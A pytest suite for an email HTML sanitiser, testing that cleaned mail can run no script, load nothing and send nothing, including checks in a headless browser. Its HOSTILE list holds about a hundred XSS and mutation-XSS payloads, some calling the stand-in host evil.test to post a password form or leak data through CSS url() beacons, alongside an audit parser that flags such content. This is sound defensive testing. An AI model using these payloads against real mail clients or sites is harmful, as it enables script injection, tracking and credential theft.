"""HTML of hostile mail: what is left of it can run nothing and load nothing."""

import base64
import re
import shutil
import threading
from collections.abc import Iterator
from html import escape
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from gatepost.web.view import MessageView, view_message
from gatepost.web.view.css import clean_declarations, clean_stylesheet
from hypothesis import given, settings
from hypothesis import strategies as st

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 20
HEADERS = "From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"


def view(html: str, **options) -> MessageView:
    return view_message((HEADERS + html).encode("utf-8", "replace"), **options)


TAGS = """applet audio base button canvas embed form frame frameset iframe input link math meta object
    noembed noframes noscript plaintext portal script select source style svg template textarea title track
    video xmp"""
LOADING = """action background cite
    data dynsrc formaction href longdesc lowsrc manifest ping poster src srcdoc
    srcset xlink:href"""


class Audit(HTMLParser):
    """Names everything in a document that could run, load, send or lead astray."""

    def __init__(self, html: str, schemes: tuple[str, ...] = ()) -> None:
        super().__init__()
        self.found: list[str] = []
        self.schemes = schemes
        head, _, self.body = html.partition("</head>")
        assert head.count("<style>") == head.count("</style>") == head.lower().count("style>") / 2
        css = head.partition("<style>")[2]
        self.css(css)
        self.feed(self.body)

    def css(self, css: str) -> None:
        for url in re.findall(r"url\(([^)]*)", css, re.IGNORECASE):
            if not url.startswith(('"data:image/', *(f'"{scheme}' for scheme in self.schemes))):
                self.found.append(f"css url {url[:60]}")
        for word in (
            "\\",
            "@import",
            "@font-face",
            "expression",
            "behavior",
            "-moz-binding",
            "image-set",
            "<",
        ):
            if word in css.lower().partition("</style>")[0]:
                self.found.append(f"css {word}")

    def handle_starttag(self, tag, attrs):
        if tag in TAGS.split():
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self.attribute(tag, name, value or "")

    def attribute(self, tag: str, name: str, value: str) -> None:
        allowed = (
            ("http://", "https://", "mailto:", "tel:")
            if (tag, name) in {("a", "href"), ("area", "href")}
            else ("data:image/", *self.schemes)
        )
        if name.startswith("on") or (name in LOADING.split() and not value.lower().startswith(allowed)):
            self.found.append(f"{tag} {name}={value[:60]}")
        if name == "style":
            self.css(value)

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_pi(self, data):
        self.found.append(f"processing instruction {data}")


def audit(html: str, schemes: tuple[str, ...] = ()) -> list[str]:
    return Audit(html, schemes).found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img/src="x"/onerror="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='http://evil.test/x.svg#x'/></svg>",
    "<svg><image href='http://evil.test/x.png'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><p title="</template><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='blob:http://evil.test/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.test/'>x</a>",
    "<a href='https://evil.test/' ping='http://evil.test/ping' onclick=alert(1)>x</a>",
    "<map><area href='javascript:alert(1)' shape=default></map>",
    "<base href='http://evil.test/'><a href='x'>x</a>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<meta http-equiv=Set-Cookie content='a=1'>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=http://evil.test>",
    "<form action=http://evil.test/><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=http://evil.test/x.png onerror=alert(1) autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<iframe src=http://evil.test/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src=http://evil.test/x.swf>",
    "<object><param name=src value=http://evil.test/x></object>",
    "<video src=http://evil.test/x poster=http://evil.test/y onerror=alert(1)></video>",
    "<audio src=http://evil.test/x autoplay></audio><video><source onerror=alert(1)></video>",
    "<img src=http://evil.test/pixel.gif>",
    "<img srcset='http://evil.test/1.png 1x'>",
    "<picture><source srcset=http://evil.test/1.png><img src=x></picture>",
    "<img src='http://evil.test/x' lowsrc='http://evil.test/y' dynsrc='http://evil.test/z'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<body background=http://evil.test/x.png onload=alert(1)>",
    "<body style='background:url(http://evil.test/x.png)'>",
    "<table background=http://evil.test/x><td background='javascript:alert(1)'>x</table>",
    "<div style='background:url(http://evil.test/x.png)'>x</div>",
    "<div style='background:u\\72l(http://evil.test/x.png)'>x</div>",
    "<div style='background:url(java&#09;script:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='wid\\74h:ex/**/pression(alert(1))'>x</div>",
    "<div style='behavior:url(http://evil.test/x.htc);-moz-binding:url(http://evil.test/x.xml#x)'>x</div>",
    "<div style='list-style:url(http://evil.test/x);cursor:url(http://evil.test/y),auto'>x</div>",
    "<div style='background:image-set(\"http://evil.test/x\" 1x)'>x</div>",
    "<div style='border-image:url(http://evil.test/x);content:url(http://evil.test/x);filter:url(//x)'>x</div>",
    "<div style='--a:url(http://evil.test/x);background:var(--a)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<style>@import url(http://evil.test/x.css);@import 'http://evil.test/y.css';</style>",
    "<style>@font-face{font-family:x;src:url(http://evil.test/x.woff)}</style>",
    "<style>body{background:url(http://evil.test/x.png)}</style>",
    "<style>a[href^='https://a']{background:url(http://evil.test/a)}</style>",
    "<style>@\\69mport 'http://evil.test/y.css';x{background:\\75rl(http://evil.test/x)}</style>",
    "<style>x{a:'</style><img src=x onerror=alert(1)>'}</style>",
    "<style>x{color:red}<!-- </style><script>alert(1)</script> --></style>",
    "<style>@media all{@import 'http://evil.test/x';@namespace url(http://evil.test/)}</style>",
    "<style media='all){}x{background:url(http://evil.test/x)}@media(x'>a{color:red}</style>",
    '<style>x{background:url("http://evil.test/a\\"b")}</style>',
    "<style>x{background:url(data:text/html,<script>)}</style>",
    "<xss style='behavior:url(#default#time2)' onbegin=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>",
    "<p id=x tabindex=1 onfocus=alert(1) autofocus contenteditable>x</p>",
    "<frameset onload=alert(1)><frame src=http://evil.test/></frameset>",
    "<html manifest=http://evil.test/x><head profile=http://evil.test/y>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' alt='\"><script>alert(1)</script>'>",
    '<a href="https://evil.test/\'onmouseover=alert(1)//">x</a>',
    "<dialog open><form method=dialog><input></form></dialog>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("remote_images", [False, True])
@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_in_hostile_html_can_run_load_or_send(html, remote_images):
    shown = view(html, remote_images=remote_images)
    assert audit(shown.html, ("http://", "https://") if remote_images else ()) == []
    assert shown.html.count("<body") == 1
    if not remote_images:
        assert "evil.test" not in re.sub(r'href="https://evil\.test/[^"]*"', "", shown.html)


@settings(max_examples=150)
@given(
    st.lists(
        st.sampled_from(HOSTILE) | st.text(alphabet="<>/='\"abimgsv\x00 \n&;:#!-{}()\\@*", max_size=30),
        max_size=6,
    ).map("".join),
)
def test_no_mixture_of_tricks_leaves_anything_forbidden(html):
    assert audit(view(html).html) == []


@settings(max_examples=150)
@given(st.text(alphabet="aburlimpotdaex(){}[];:'\"\\/*@<>!-,.# \n", max_size=80))
def test_no_css_leaves_anything_forbidden(css):
    asked = []
    for cleaned in (clean_stylesheet(css, asked.append), clean_declarations(css, asked.append)):
        assert not re.search(r"[\\<]|url\(|@(?!media)|expression\(", cleaned), cleaned


def test_the_document_is_its_own_second_wall():
    html = view("<p>x").html
    assert html.startswith('<!doctype html><html><head><meta charset="utf-8"><meta http-equiv=')
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', html)[1]
    assert policy == (
        "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; base-uri 'none'"
    )
    assert "img-src data: http: https:;" in view("<p>x", remote_images=True).html


def test_links_open_elsewhere_and_tell_nothing():
    html = view("<a href='https://example.com/?a=1&amp;b=2' target=_top rel=opener>x</a>").html
    assert (
        '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">'
        in html
    )


@pytest.mark.parametrize(
    ("html", "kept"),
    [
        ("<font color=red face=Arial size=2>x</font>", '<font color="red" face="Arial" size="2">x</font>'),
        ("<center><b>x</b></center>", "<center><b>x</b></center>"),
        ("<td bgcolor=#eee>", ""),
        (
            "<table width=600 align=center cellpadding=0 cellspacing=0 border=0><tr><td valign=top>x</table>",
            '<table width="600" align="center" cellpadding="0" cellspacing="0" border="0">',
        ),
        (
            "<p style=\"FONT: bold 12px/1.5 'Open Sans', Arial; mso-x: y; color: #333 !important\">",
            "style=\"font:bold 12px/1.5 'Open Sans', Arial;color:#333 !important\"",
        ),
        (
            "<p style='padding:0;bad value;margin:calc(1px + 2px)'>",
            'style="padding:0;margin:calc(1px + 2px)"',
        ),
        (
            "<p style='background-image:linear-gradient(rgba(0,0,0,.5),#fff)'>",
            'style="background-image:linear-gradient(rgba(0,0,0,.5),#fff)"',
        ),
        ("<body bgcolor=#123456 style='margin:0'>x", '<body bgcolor="#123456" style="margin:0">'),
        ("<p>x", '<body bgcolor="#ffffff"><p>'),
        ("<html dir=rtl lang=ar><body>x", '<!doctype html><html dir="rtl" lang="ar"><head>'),
        ("<HTML LANG='he'><p>x", '<html lang="he"><head>'),
        ("<html style='x:y' class=a onload=b manifest=c lang='x\"y'><p>", '<html lang="x&quot;y"><head>'),
        ("<body dir=rtl>x", '<body dir="rtl" bgcolor="#ffffff">'),
        (
            "<p>\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f468\u200d\U0001f469",
            "\u06cc\u200c\u062e",
        ),
        ("<p>\U0001f468\u200d\U0001f469", "\U0001f468\u200d\U0001f469"),
        ("<a href='#part-2'>x</a>", '<a href="#part-2" rel="noopener noreferrer nofollow">x</a>'),
        ("<map name=m><area href='#b'></map>", '<area href="#b"'),
        ("<h2 id=part-2>x</h2><a name=c>y</a>", '<h2 id="part-2">'),
        ("<style>.a , #b > td.c{color:red}</style>", ".a , #b > td.c{color:red}"),
        (
            "<style>/* c */@media only screen and (max-width:600px){.w{width:100%!important}}</style>",
            "@media only screen and (max-width:600px){\n.w{width:100% !important}\n}",
        ),
        ("<style media=screen>a{color:red}</style>", "@media screen{a{color:red}}"),
        ("<style><!-- a{color:red} --></style>", "a{color:red}"),
        ("<style>@font-face{src:url(x)}@keyframes k{from{top:0}}a{color:red}</style>", "a{color:red}"),
        ("<![if !mso]><p>seen</p><![endif]><!--[if mso]><p>unseen</p><![endif]-->", "<p>seen</p>"),
        ("<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' width=1>", "data:image/gif;base64,R0lGOD"),
    ],
)
def test_the_look_of_real_mail_is_kept(html, kept):
    assert kept in view(html).html


def related(html: str, part: str = "image/png", octets: bytes = PNG, content_id: str = "logo@x") -> bytes:
    return (
        'From: a@example.com\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
        f"--b\r\nContent-Type: {part}\r\nContent-ID: <{content_id}>\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(octets).decode()}\r\n--b--\r\n"
    ).encode()


@pytest.mark.parametrize(
    ("html", "part", "octets", "is_shown"),
    [
        ("<img src=cid:logo@x>", "image/png", PNG, True),
        ("<img src='CID:logo%40x'>", "application/octet-stream", PNG, True),
        ("<img src='cid:<logo@x>'>", "image/png", PNG, True),
        ("<img src='cid:%3Clogo@x%3E'>", "image/png", PNG, True),
        ("<img src=' cid: logo@x '>", "image/png", PNG, True),
        ("<img src=cid:LOGO@X>", "image/png", PNG, True),
        ("<td><table background='cid:logo@x'><tr><td>x</table>", "image/png", PNG, True),
        ("<p style='background:#fff url(cid:logo@x) no-repeat'>", "image/png", PNG, True),
        ("<img src=cid:logo@x>", "image/jpeg", b"\xff\xd8\xff\xe0", True),
        ("<img src=cid:logo@x>", "image/gif", b"GIF89a", True),
        ("<img src=cid:logo@x>", "image/webp", b"RIFF\0\0\0\0WEBP", True),
        ("<img src=cid:logo@x>", "image/svg+xml", b"<svg onload='alert(1)'/>", False),
        ("<img src=cid:logo@x>", "image/png", b"<script>alert(1)</script>", False),
        ("<img src=cid:other@x>", "image/png", PNG, False),
    ],
)
def test_images_of_the_message_itself_are_shown_in_place(html, part, octets, is_shown):
    shown = view_message(related(html, part, octets))
    assert ("data:image/" in shown.html) is is_shown
    assert (len(shown.inline_images), len(shown.attachments)) == (is_shown, not is_shown)
    assert shown.blocked_images == 0
    assert audit(shown.html) == []


@pytest.mark.parametrize("content_id", [" logo@x ", "Logo@X", "\tlogo@x", "<logo@x>"])
def test_a_content_id_is_found_however_it_is_written(content_id):
    shown = view_message(related("<img src=cid:logo@x>", content_id=content_id))
    assert "data:image/" in shown.html
    assert (len(shown.inline_images), len(shown.attachments)) == (1, 0)


def test_of_two_parts_with_one_content_id_the_first_is_shown():
    content = related("<img src=cid:logo@x>").decode()
    second = content.partition("\r\n--b\r\nContent-Type: image/png")[2].partition("--b--")[0]
    twice = content.replace("--b--", f"--b\r\nContent-Type: image/png{second}--b--")
    assert len(view_message(twice.encode()).inline_images) == 2, "they are the same"
    other = base64.b64encode(b"GIF89a").decode()
    twice = other.join(twice.rsplit(base64.b64encode(PNG).decode(), 1))
    shown = view_message(twice.encode())
    assert [one.number for one in shown.inline_images] == [3]
    assert [one.number for one in shown.attachments] == [4]
    assert "data:image/png" in shown.html


def test_a_link_to_a_place_in_the_mail_is_no_link_to_check():
    assert view("<a href='#top'>up</a><a href='https://example.com/#top'>out</a>").links == (
        "https://example.com/#top",
    )


def test_an_image_shown_a_thousand_times_does_not_fill_the_memory():
    shown = view_message(related("<img src=cid:logo@x>" * 1000, octets=PNG + b"\0" * 200_000))
    assert 0 < shown.html.count("data:image/png") < 1000
    assert len(shown.html) < 20 << 20


def test_remote_images_are_counted_once_each_and_shown_on_request():
    html = (
        "<img src=http://a.test/1.png><img src=http://a.test/1.png><img src='//b.test/2.png'>"
        "<p style='background:url(https://c.test/3.png)'><table background=http://d.test/4.png><tr><td></table>"
    )
    assert view(html).blocked_images == 4
    shown = view(html, remote_images=True)
    assert shown.blocked_images == 0
    for url in ("http://a.test/1.png", "https://b.test/2.png", "https://c.test/3.png", "http://d.test/4.png"):
        assert url in shown.html


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 300_000,
        "<b><i><u>" * 100_000,
        "<table><tr><td>" * 100_000,
        "<table>a<b>" * 100_000,
        f"<p {' '.join(f'a{n}=1' for n in range(200_000))}>",
        "<!--" * 500_000,
        "<style>" * 300_000,
        "<a href='" * 300_000,
        "<p style='" + "(" * 1_000_000,
        "<p style='" + "a:(" * 500_000 + "'>",
        "<p style='" + "/*" * 500_000 + "'>",
        "<style>" + "{" * 1_000_000,
        "<style>" + "@media x{" * 200_000,
        "<style>" + "'" * 1_000_000,
        "<style>" + "a{b:" * 200_000,
        "&lt;" * 1_000_000,
        "<svg>" * 300_000,
        "<p style=color:red>" * 100_000,
        "<img src=http://a.test/1>" * 100_000,
        "x" * 30_000_000,
        "<p>x</p>" * 4_000_000,
    ],
    ids=lambda html: f"{html[:12]}...{len(html)}",
)
@pytest.mark.long
def test_no_html_takes_long(html, within_yardsticks):
    with within_yardsticks(500):
        shown = view(html)
    assert len(shown.html) < 20 << 20


class Site:
    """Pages on loopback, and a list of all that was asked for besides them."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        self.asked: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                page = site.pages.get(self.path)
                if page is None and self.path != "/favicon.ico":
                    site.asked.append(self.path)
                self.send_response(404 if page is None else 200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write((page or "").encode())

            do_POST = do_GET  # noqa: N815 # the library's name

            def log_message(self, *_):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_port}"

    def __enter__(self):
        self.thread = threading.Thread(target=self.server.serve_forever)
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as one:
        yield one


@pytest.fixture
def visited(site):
    """Opens pages in a browser; gives what ran, what the server was asked for, what was tried."""
    sync_api = pytest.importorskip("playwright.sync_api")

    def visit(*pages: str) -> tuple[list[str], list[str], list[str]]:
        site.pages = {f"/page{number}": page for number, page in enumerate(pages)}
        ran: list[str] = []
        asked: list[str] = []
        with sync_api.sync_playwright() as playwright:
            browser = playwright.chromium.launch(
                executable_path=shutil.which("chromium-headless-shell"), args=["--no-sandbox"]
            )
            page = browser.new_page()
            page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
            page.on("request", lambda request: asked.append(request.url))
            for path in site.pages:
                page.goto(site.origin + path)
            browser.close()
        own = {site.origin + path for path in site.pages} | {f"{site.origin}/favicon.ico", "about:srcdoc"}
        return ran, site.asked, [url for url in asked if url not in own and not url.startswith("data:")]

    return visit


def frames(documents: list[str], sandbox: str) -> str:
    shown = "".join(f'<iframe sandbox="{sandbox}" srcdoc="{escape(one)}"></iframe>' for one in documents)
    return f"<!doctype html><title>desk</title>{shown}"


def aimed_at(site: Site) -> list[str]:
    return [
        html.replace("http://evil.test", site.origin).replace("//evil.test", site.origin) for html in HOSTILE
    ]


@pytest.mark.real("chromium-headless-shell")
@pytest.mark.long
def test_in_a_browser_no_hostile_mail_runs_a_script_or_sends_a_request(site, visited):
    documents = [view(html).html for html in aimed_at(site)]
    assert visited(frames(documents, "allow-popups allow-popups-to-escape-sandbox")) == ([], [], [])


@pytest.mark.real("chromium-headless-shell")
@pytest.mark.long
def test_in_a_browser_the_sanitiser_holds_without_the_other_walls(site, visited):
    documents = [re.sub(r"<meta http-equiv[^>]*>", "", view(html).html) for html in aimed_at(site)]
    assert visited(*documents) == ([], [], [])


@pytest.mark.real("chromium-headless-shell")
@pytest.mark.long
def test_in_a_browser_the_policy_and_the_sandbox_hold_without_the_sanitiser(site, visited):
    head = view("").html.partition("<body")[0]
    documents = [f"{head}<body>{html}" for html in aimed_at(site) if "http-equiv=refresh" not in html]
    ran, asked, _ = visited(frames(documents, "allow-popups allow-popups-to-escape-sandbox"))
    assert (ran, asked) == ([], [])


@pytest.mark.real("chromium-headless-shell")
@pytest.mark.long
def test_in_a_browser_the_same_mail_does_harm_where_there_is_no_wall(site, visited):
    ran, asked, _ = visited(frames(aimed_at(site), "allow-scripts allow-modals allow-forms"))
    assert len(ran) > 10
    assert len(asked) > 10
